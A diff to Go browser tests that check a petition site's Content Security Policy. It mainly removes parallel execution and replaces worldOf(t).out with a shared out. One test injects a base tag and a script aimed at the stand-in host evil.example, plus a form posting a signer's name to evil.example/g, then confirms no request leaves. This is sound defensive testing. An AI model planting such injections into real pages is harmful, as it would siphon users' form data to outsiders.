@@ -15,7 +15,6 @@ var declared = petition{
 // The page's policy lets a post through, and the redirect that answers it, to where site.toml says that it may go
 // (CASES.md RS-034) and nowhere else: in Chromium a redirect to any other place is stopped (CASES.md RS-035).
 func TestPolicyLetsAnswersThrough(t *testing.T) {
-	parallel(t)
 	public := declared.build(t, nil)
 	page := func(heading string) http.Handler {
 		return http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
@@ -38,7 +37,7 @@ func TestPolicyLetsAnswersThrough(t *testing.T) {
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			f := &fake{contract: func(sent) reply { return c.answer }, site: page("Done")}
-			worldOf(t).out.answer(t, map[string]http.Handler{
+			out.answer(t, map[string]http.Handler{
 				"action.riverton.example": host(public, nil), "forms.riverton.example": f,
 				"danke.riverton.example": page("Danke"), "evil.example": page("Evil"),
 			})
@@ -53,7 +52,7 @@ func TestPolicyLetsAnswersThrough(t *testing.T) {
 				return
 			}
 			p.complained("Sending form data to", "forms.riverton.example/sign", "form-action")
-			if asked := worldOf(t).out.askedOf("evil.example"); len(asked) > 0 {
+			if asked := out.askedOf("evil.example"); len(asked) > 0 {
 				t.Errorf("requests to somebody else: %q", asked)
 			}
 		})
@@ -63,14 +62,13 @@ func TestPolicyLetsAnswersThrough(t *testing.T) {
 // Where a script sends the form, the policy lets scripts reach the handler, the site's own host, and nobody else; what was put into the
 // page later runs, resolves and sends nothing (CASES.md RS-037).
 func TestPolicyHoldsWhereAScriptSends(t *testing.T) {
-	parallel(t)
 	public := petition{handler: formspreeHandler, form: usualFields + notice.lines()}.build(t, nil)
 	const address = "/library-sundays/"
 	built := readFile(t, file(public, address))
 	added := replaceOnce(t, built, "</head>", `<base href="https://evil.example/"><script>`+mischief+`</script></head>`)
 	added = replaceOnce(t, added, `<main id="main"`, `<form action="https://evil.example/g" method="post"><input name="name" value="Ana"><button id="evil">Sign</button></form><main id="main"`)
 	f := &fake{contract: formspree, allows: everybody}
-	worldOf(t).out.answer(t, map[string]http.Handler{
+	out.answer(t, map[string]http.Handler{
 		"action.riverton.example": host(public, map[string]string{address: added}), "formspree.io": f, "evil.example": &fake{contract: formspree, allows: everybody},
 	})
 	p := newTab(t)
@@ -99,7 +97,7 @@ func TestPolicyHoldsWhereAScriptSends(t *testing.T) {
 	p.pressButton()
 	p.thanked()
 	p.took(f, 1)
-	if asked := worldOf(t).out.askedOf("evil.example"); len(asked) > 0 {
+	if asked := out.askedOf("evil.example"); len(asked) > 0 {
 		t.Errorf("requests to somebody else: %q", asked)
 	}
 }
@@ -107,7 +105,6 @@ func TestPolicyHoldsWhereAScriptSends(t *testing.T) {
 // A form that posts does so when its scripts are blocked or fail, with the same values; one that only a script can
 // send leaves its place to the handler's own page (CASES.md RS-040).
 func TestFormWithoutItsScripts(t *testing.T) {
-	parallel(t)
 	const throws = `throw new Error("on purpose");`
 	const address = "/library-sundays/"
 	blocked := func(public string) map[string]string {
@@ -138,7 +135,7 @@ func TestFormWithoutItsScripts(t *testing.T) {
 				changed = c.changed(public)
 			}
 			f := &fake{contract: own(), allows: ourSite}
-			worldOf(t).out.answer(t, map[string]http.Handler{"action.riverton.example": host(public, changed), "forms.riverton.example": f})
+			out.answer(t, map[string]http.Handler{"action.riverton.example": host(public, changed), "forms.riverton.example": f})
 			p.again(t)
 			p.open(campaignAt)
 			if strings.HasPrefix(c.name, "proca") {
